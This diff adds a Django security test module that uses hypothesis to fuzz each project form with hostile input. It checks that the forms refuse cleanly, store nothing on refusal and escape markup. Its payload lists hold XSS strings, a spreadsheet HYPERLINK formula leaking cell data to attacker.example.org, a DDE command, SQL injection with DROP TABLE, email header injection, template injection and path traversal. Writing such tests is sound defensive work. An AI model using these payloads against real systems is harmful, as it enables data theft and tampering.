@@ -1,0 +1,578 @@
+"""Hostile input: every form of the project, driven through its real view with random and
+hostile values (issue 6, item 5), by hypothesis.
+
+For each example: never a server error (the test client re-raises any exception); either the
+input is accepted, or it is refused with a clear message (a GOV.UK error summary on the page
+re-rendered with what was typed, or an error message after a redirect) and not one row of the
+database changed; and markup typed into any field never comes back unescaped.
+
+The forms are found by walking each project app's `forms` module (`project_forms`), so a new
+form fails test_every_form_has_a_driver until DRIVERS says which view and role use it.
+"""
+
+from __future__ import annotations
+
+import importlib
+import inspect
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from django import forms
+from django.apps import apps
+from django.conf import settings
+from django.contrib.messages import constants as message_levels
+from django.contrib.messages import get_messages
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import transaction
+from django.urls import reverse
+from django.utils.html import escape
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from tests.security.conftest import World, client_for
+from tests.security.helpers import changed_tables, table_counts
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen")]
+
+EXAMPLES = 20  # per form; the whole module stays well under two minutes
+
+# --- what a hostile person types ---------------------------------------------------------------
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = '"><img src=x onerror=alert(1)>'
+# Never to be found as such in a response: markup typed by someone, rendered live.
+RAW_MARKUP = [SCRIPT, "<img src=x onerror=alert(1)>"]
+HOSTILE_TEXT = [
+    SCRIPT,
+    IMG,
+    "<b onmouseover=alert(1)>hover</b>",
+    "javascript:alert(1)",
+    '=HYPERLINK("http://attacker.example.org/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-1+1",
+    "\t=1+1",
+    "x\r\nBcc: victim@example.org",
+    "x\nSubject: injected",
+    "' OR 1=1; --",
+    "Robert'); DROP TABLE requests_register_entry;--",
+    "{{ 7*7 }} {% debug %}",
+    "${reference.__class__} $name %s%n",
+    "../../etc/passwd",
+    "\x00",
+    "a\x00b",
+    "\u202eevil\u202c \u200f\u200e",
+    "Zoë Ñandú 北京 🙂",
+    " ",
+    "",
+]
+LONG = st.integers(min_value=300, max_value=20_000).map(lambda n: "A" * n)
+ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=120)
+TEXT = st.one_of(st.sampled_from(HOSTILE_TEXT), ANY_TEXT, LONG)
+EMAIL = st.one_of(
+    TEXT,
+    st.sampled_from(
+        [
+            "x@example.org\r\nBcc: victim@example.org",
+            "victim@example.org\nBcc: a@example.org",
+            "a@b",
+            f"{SCRIPT}@example.org",
+            "a" * 300 + "@example.org",
+            "alex@example.org",
+        ]
+    ),
+)
+WHEN = st.one_of(
+    TEXT,
+    st.sampled_from(
+        [
+            "2026-02-30T10:00",
+            "0000-00-00T00:00",
+            "99999-01-01T00:00",
+            "2026-13-01T00:00",
+            "1900-01-01T00:00",
+            "2999-12-31T23:59",
+            "2026-11-25T09:00",
+            "2026-11-25",
+            "1e309",
+        ]
+    ),
+)
+NUMBER = st.one_of(
+    TEXT,
+    st.sampled_from(["9" * 40, "-1", "0", "1e309", "NaN", "0x10", "2147483648", "-9" * 20]),
+    st.integers().map(str),
+)
+URL = st.one_of(
+    TEXT, st.sampled_from(["javascript:alert(1)", "http://", "data:text/html,<script>x</script>"])
+)
+FILE_NAMES = [
+    "letter.pdf",
+    "tool.exe",
+    "../../etc/passwd",
+    f"{SCRIPT}.pdf",
+    "a" * 300 + ".pdf",
+    "report.pdf.exe",
+    "notes.txt",
+    "",
+]
+FILE_TYPES = [
+    "application/pdf",
+    "text/plain",
+    "text/csv",
+    "text/html",
+    "image/png",
+    "application/x-msdownload",
+    "message/rfc822",
+]
+FILE_BODIES = st.one_of(
+    st.sampled_from([b"%PDF-1.4\n%demo\n", b"MZ\x90\x00\x03", b"<script>alert(1)</script>", b""]),
+    st.binary(max_size=300),
+)
+
+
+@st.composite
+def upload(draw) -> SimpleUploadedFile:
+    return SimpleUploadedFile(
+        draw(st.sampled_from(FILE_NAMES)) or "unnamed",
+        draw(FILE_BODIES),
+        content_type=draw(st.sampled_from(FILE_TYPES)),
+    )
+
+
+def _choice_values(form_field) -> list[str]:
+    values = []
+    for value, _label in form_field.choices:
+        value = getattr(value, "value", value)  # ModelChoiceIteratorValue
+        if isinstance(value, list | tuple):  # optgroups
+            continue
+        values.append("" if value is None else str(value))
+    return values
+
+
+def value_strategy(form_field) -> st.SearchStrategy:
+    """Return hostile (and some valid) values for a form field, by its type."""
+    if isinstance(form_field, forms.FileField):
+        many = getattr(form_field.widget, "allow_multiple_selected", False)
+        return st.lists(upload(), max_size=2 if many else 1)
+    if isinstance(form_field, forms.ModelMultipleChoiceField | forms.MultipleChoiceField):
+        valid = _choice_values(form_field)
+        item = st.one_of(st.sampled_from(valid), TEXT, NUMBER) if valid else TEXT
+        return st.lists(item, max_size=3)
+    if isinstance(form_field, forms.ChoiceField | forms.ModelChoiceField):
+        valid = _choice_values(form_field)
+        return st.one_of(st.sampled_from(valid), TEXT, NUMBER) if valid else TEXT
+    if isinstance(form_field, forms.BooleanField):
+        return st.one_of(st.sampled_from(["on", "", "false", "0"]), TEXT)
+    if isinstance(form_field, forms.EmailField):
+        return EMAIL
+    if isinstance(form_field, forms.URLField):
+        return URL
+    if isinstance(form_field, forms.DateField | forms.DateTimeField):
+        return WHEN
+    if isinstance(form_field, forms.IntegerField | forms.DecimalField | forms.FloatField):
+        return NUMBER
+    return TEXT
+
+
+# --- the forms of the project --------------------------------------------------------------------
+
+
+def project_forms() -> dict[str, type[forms.BaseForm]]:
+    """Return every form class defined in a project app's forms module, by dotted name."""
+    base = Path(settings.BASE_DIR).resolve()
+    found = {}
+    for config in apps.get_app_configs():
+        if not Path(config.path).resolve().is_relative_to(base):
+            continue
+        try:
+            module = importlib.import_module(f"{config.name}.forms")
+        except ModuleNotFoundError as error:
+            if error.name != f"{config.name}.forms":
+                raise
+            continue
+        for name, obj in vars(module).items():
+            if (
+                inspect.isclass(obj)
+                and issubclass(obj, forms.BaseForm)
+                and obj.__module__ == module.__name__
+            ):
+                found[f"{module.__name__}.{name}"] = obj
+    return found
+
+
+# Forms never used on their own: each is the base of forms that are driven.
+BASES = {
+    "requests_register.forms.EntryForm": "base of LogEntryForm and EditEntryForm",
+    "publishing.forms.VersionedForm": "base of the review forms; SubmitForm is exactly it",
+}
+
+
+@dataclass(frozen=True)
+class Driver:
+    """How a form reaches its view: the URL, who posts it, the form as the view builds it,
+    known-good values (each example perturbs some fields), and how a refusal is shown:
+    "page" (the form again, with a GOV.UK error summary) or "redirect" (an error message)."""
+
+    url: Callable[[World], str]
+    role: str
+    form: Callable[[World], forms.BaseForm]
+    base: Callable[[World], dict[str, object]] = lambda w: {}
+    refusal: str = "page"
+    # Fields whose typed text must be on the refused page; None: every visible text field.
+    kept: tuple[str, ...] | None = None
+    # A valid submission answered 200 (a preview) rather than a redirect.
+    preview: bool = False
+    examples: int = EXAMPLES
+    extra: dict = field(default_factory=dict)
+
+
+def _o(world: World, key: str):
+    return world.objects[key]
+
+
+def _url(name: str, **kwargs: Callable[[World], object]) -> Callable[[World], str]:
+    return lambda w: reverse(name, kwargs={k: f(w) for k, f in kwargs.items()})
+
+
+def _pk(key: str) -> Callable[[World], int]:
+    return lambda w: w.objects[key].pk
+
+
+def _version(key: str) -> Callable[[World], dict]:
+    return lambda w: {"version": str(type(_o(w, key)).objects.get(pk=_o(w, key).pk).version)}
+
+
+def _entry_form(cls_name: str):
+    def make(world: World):
+        from requests_register import forms as f
+
+        if cls_name == "LogEntryForm":
+            return f.LogEntryForm(election=world.election)
+        entry = _o(world, "entry")
+        return f.EditEntryForm(instance=entry, election=world.election)
+
+    return make
+
+
+ENTRY_BASE = {
+    "received_at": "2026-11-25T09:00",
+    "channel": "email",
+    "first_reached": "opcc",
+    "kind": "information",
+    "topic": SCRIPT,
+    "question": '=HYPERLINK("http://attacker.example.org","Click") ' + IMG,
+    "requester_type": "public",
+    "requester_name": IMG,
+    "requester_email": "alex@example.org",
+    "acknowledge": "on",
+}
+
+
+def _drivers() -> dict[str, Driver]:
+    from briefings import forms as bf
+    from candidates import forms as cf
+    from candidates import rules as candidate_rules
+    from election_protocol import forms as ef
+    from publishing import forms as pf
+    from requests_register import forms as rf
+
+    def review(name: str, cls, role: str, prefix, **base) -> Driver:
+        def make(world: World):
+            return cls(prefix=prefix(world) if callable(prefix) else prefix)
+
+        def good(world: World):
+            return {**_version("public_entry")(world), **base}
+
+        kwargs = {"pk": _pk("public_entry")}
+        if name == "publishing:restore":
+            kwargs["redaction_pk"] = _pk("redaction")
+        return Driver(_url(name, **kwargs), role, make, good)
+
+    return {
+        "election_protocol.forms.NonWorkingDayForm": Driver(
+            _url("non_working_days"),
+            "spoc",
+            lambda w: ef.NonWorkingDayForm(election=w.election),
+            lambda w: {"date": "2026-12-01", "kind": "office_closure", "reason": SCRIPT},
+        ),
+        "candidates.forms.CandidateForm": Driver(
+            _url("candidates:create"),
+            "spoc",
+            lambda w: cf.CandidateForm(),
+            lambda w: {"name": SCRIPT, "emails": "new@example.org", "agent_name": IMG},
+        ),
+        "candidates.forms.StatusForm": Driver(
+            _url("candidates:status", pk=_pk("candidate")),
+            "ce",
+            lambda w: cf.StatusForm(
+                current=candidate_rules.Status(_o(w, "candidate").status), may_correct=True
+            ),
+            lambda w: {"note": SCRIPT},
+        ),
+        "candidates.forms.SopnUploadForm": Driver(
+            _url("candidates:sopn_import"),
+            "spoc",
+            lambda w: cf.SopnUploadForm(),
+            preview=True,
+        ),
+        "requests_register.forms.LogEntryForm": Driver(
+            _url("requests_register:log"),
+            "spoc",
+            _entry_form("LogEntryForm"),
+            lambda w: dict(ENTRY_BASE),
+        ),
+        "requests_register.forms.EditEntryForm": Driver(
+            _url("requests_register:edit", pk=_pk("entry")),
+            "spoc",
+            _entry_form("EditEntryForm"),
+            lambda w: {**ENTRY_BASE, **_version("entry")(w)},
+        ),
+        "requests_register.forms.StatusForm": Driver(
+            _url("requests_register:status", pk=_pk("entry")),
+            "ce",
+            lambda w: rf.StatusForm(entry=_o(w, "entry")),
+            lambda w: {"status": "withdrawn", "reason": SCRIPT},
+            kept=("reason", "original"),
+        ),
+        "requests_register.forms.DraftForm": Driver(
+            _url("requests_register:draft", pk=_pk("entry")),
+            "spoc",
+            lambda w: rf.DraftForm(),
+            lambda w: {"answer": SCRIPT},
+        ),
+        "requests_register.forms.AssignForm": Driver(
+            _url("requests_register:assign", pk=_pk("entry")),
+            "spoc",
+            lambda w: rf.AssignForm(),
+            lambda w: {"assignee": str(w.users["fl"].pk), "request": SCRIPT},
+            refusal="redirect",
+        ),
+        "requests_register.forms.ContributionForm": Driver(
+            _url("requests_register:contribute", pk=_pk("entry")),
+            "pl",
+            lambda w: rf.ContributionForm(),
+            lambda w: {"body": SCRIPT},
+            refusal="redirect",
+        ),
+        "requests_register.forms.NoteForm": Driver(
+            _url("requests_register:note", pk=_pk("entry")),
+            "spoc",
+            lambda w: rf.NoteForm(),
+            lambda w: {"kind": "note", "body": IMG},
+            refusal="redirect",
+        ),
+        "requests_register.forms.AttachmentForm": Driver(
+            _url("requests_register:attachments", pk=_pk("entry")),
+            "spoc",
+            lambda w: rf.AttachmentForm(),
+            refusal="redirect",
+        ),
+        "requests_register.forms.EmailImportForm": Driver(
+            _url("requests_register:log_from_email"),
+            "spoc",
+            lambda w: rf.EmailImportForm(),
+            lambda w: {
+                "source": "From: Alex <alex@example.org>\nSubject: x\r\nBcc: victim@example.org"
+                f"\n\n{SCRIPT}"
+            },
+            preview=True,
+        ),
+        "requests_register.forms.DeputiesForm": Driver(
+            _url("requests_register:deputies"),
+            "ce",
+            lambda w: rf.DeputiesForm(),
+            lambda w: {"deputies": [str(w.users["spoc"].pk)]},
+        ),
+        "briefings.forms.PrepareBookingForm": Driver(
+            _url("briefings:prepare", entry_pk=_pk("entry_meeting")),
+            "spoc",
+            lambda w: bf.PrepareBookingForm(election=w.election),
+            lambda w: {
+                "kind": "meeting_ce",
+                "advance_questions": SCRIPT,
+                "material_check_note": IMG,
+            },
+        ),
+        "briefings.forms.StepForm": Driver(
+            _url("briefings:step", pk=_pk("booking")),
+            "cc",
+            lambda w: bf.StepForm(),
+            lambda w: {"status": "confirmed", "expected_status": "approved", "reason": SCRIPT},
+            kept=("reason", "place", "host", "notes"),
+        ),
+        "briefings.forms.EventForm": Driver(
+            _url("briefings:events"),
+            "spoc",
+            lambda w: bf.EventForm(),
+            lambda w: {
+                "title": SCRIPT,
+                "starts_at": "2026-12-01T18:00",
+                "ends_at": "2026-12-01T20:00",
+                "place": IMG,
+                "audience": "declared",
+                "capacity": "20",
+            },
+        ),
+        "briefings.forms.QuestionLinkForm": Driver(
+            _url("briefings:event_action", pk=_pk("event"), action=lambda w: "question"),
+            "spoc",
+            lambda w: bf.QuestionLinkForm(),
+            lambda w: {"reference": _o(w, "entry").reference},
+            refusal="redirect",
+        ),
+        "briefings.forms.NotesForm": Driver(
+            _url("briefings:event_action", pk=_pk("event"), action=lambda w: "notes"),
+            "spoc",
+            lambda w: bf.NotesForm(),
+            lambda w: {"notes": SCRIPT},
+            refusal="redirect",
+        ),
+        "publishing.forms.RedactForm": review(
+            "publishing:redact",
+            pf.RedactForm,
+            "spoc",
+            "redact",
+            field="answer",
+            kind="other",
+            reason=SCRIPT,
+            text="the",
+        ),
+        "publishing.forms.RestoreForm": review(
+            "publishing:restore",
+            pf.RestoreForm,
+            "spoc",
+            lambda w: f"restore-{_o(w, 'redaction').pk}",
+            reason=SCRIPT,
+        ),
+        "publishing.forms.SubmitForm": review("publishing:submit", pf.SubmitForm, "spoc", "submit"),
+        "publishing.forms.ApproveForm": review(
+            "publishing:approve", pf.ApproveForm, "ce", "approve", factual_confirmed="on"
+        ),
+        "publishing.forms.ReturnForm": review(
+            "publishing:return", pf.ReturnForm, "ce", "return", reason=SCRIPT
+        ),
+        "publishing.forms.CorrectForm": review(
+            "publishing:correct", pf.CorrectForm, "ce", "correct", answer=SCRIPT, note=IMG
+        ),
+        "publishing.forms.WithdrawForm": review(
+            "publishing:withdraw", pf.WithdrawForm, "spoc", "withdraw", reason=SCRIPT
+        ),
+    }
+
+
+DRIVERS = _drivers()
+FORMS = project_forms()
+
+
+def test_every_form_has_a_driver():
+    missing = sorted(set(FORMS) - set(DRIVERS) - set(BASES))
+    assert not missing, (
+        f"Form(s) {missing} are not driven by tests/security/test_hostile_input.py: add a "
+        "Driver to DRIVERS saying which view and role post them (or to BASES if never used on "
+        "its own)."
+    )
+    assert not (set(DRIVERS) | set(BASES)) - set(FORMS), "a driven form no longer exists"
+
+
+# --- one example -----------------------------------------------------------------------------
+
+TEXT_WIDGETS = (
+    forms.TextInput,
+    forms.Textarea,
+    forms.EmailInput,
+    forms.URLInput,
+    forms.NumberInput,
+    forms.DateInput,
+    forms.DateTimeInput,
+)
+
+
+def _visible_text_fields(form: forms.BaseForm) -> list[str]:
+    return [
+        name
+        for name, form_field in form.fields.items()
+        if isinstance(form_field.widget, TEXT_WIDGETS)
+        and not form_field.widget.is_hidden
+        and not isinstance(form_field.widget, forms.PasswordInput)
+    ]
+
+
+def _messages(response) -> list:
+    return list(get_messages(response.wsgi_request))
+
+
+def _html(response) -> str:
+    if response.get("Content-Type", "").startswith("text/html"):
+        return response.content.decode("utf-8", "replace")
+    return ""
+
+
+def run_example(client, world: World, driver: Driver, data: st.DataObject) -> None:
+    form = driver.form(world)
+    base = driver.base(world)
+    names = list(form.fields)
+    perturbed = data.draw(st.sets(st.sampled_from(names), max_size=3), label="perturbed")
+    post: dict[str, object] = {}
+    for name in names:
+        if name in base and name not in perturbed:
+            value = base[name]
+        elif name in perturbed or isinstance(form.fields[name], forms.FileField):
+            value = data.draw(value_strategy(form.fields[name]), label=name)
+        else:
+            continue
+        post[form.add_prefix(name)] = value
+    post.update(driver.extra)
+
+    before = table_counts()
+    with transaction.atomic():
+        # Each example starts from the same world: whatever it stored is rolled back after.
+        response = client.post(driver.url(world), post)
+        after = table_counts()
+        transaction.set_rollback(True)
+    assert response.status_code < 500
+    html = _html(response)
+    for raw in RAW_MARKUP:
+        assert raw not in html, f"{raw!r} came back unescaped"
+
+    if driver.refusal == "redirect":
+        assert response.status_code == 302, response.status_code
+        shown = _messages(response)
+        assert shown, "no message after the redirect"
+        if any(m.level >= message_levels.ERROR for m in shown):
+            assert changed_tables(before, after) == {}, "refused, but something was stored"
+        return
+
+    if response.status_code == 302:
+        return  # accepted
+    assert response.status_code in (200, 400), response.status_code
+    if "govuk-error-summary" not in html:
+        assert driver.preview and response.status_code == 200, (
+            "neither accepted nor refused with a GOV.UK error summary"
+        )
+        assert changed_tables(before, after) == {}, "a preview stored something"
+        return
+    assert changed_tables(before, after) == {}, "refused, but something was stored"
+    kept = driver.kept if driver.kept is not None else _visible_text_fields(form)
+    for name in kept:
+        typed = post.get(form.add_prefix(name))
+        if isinstance(typed, str) and typed.strip() and "\x00" not in typed:
+            assert escape(typed) in html or escape(typed.strip()) in html, (
+                f"{name}: what was typed is not on the page again"
+            )
+
+
+@pytest.mark.parametrize("form_name", sorted(DRIVERS))
+def test_form_survives_hostile_input(world, client, form_name):
+    driver = DRIVERS[form_name]
+    client_for(client, world, driver.role)
+
+    @hypothesis_settings(max_examples=driver.examples)
+    @given(data=st.data())
+    def check(data):
+        run_example(client, world, driver, data)
+
+    check()
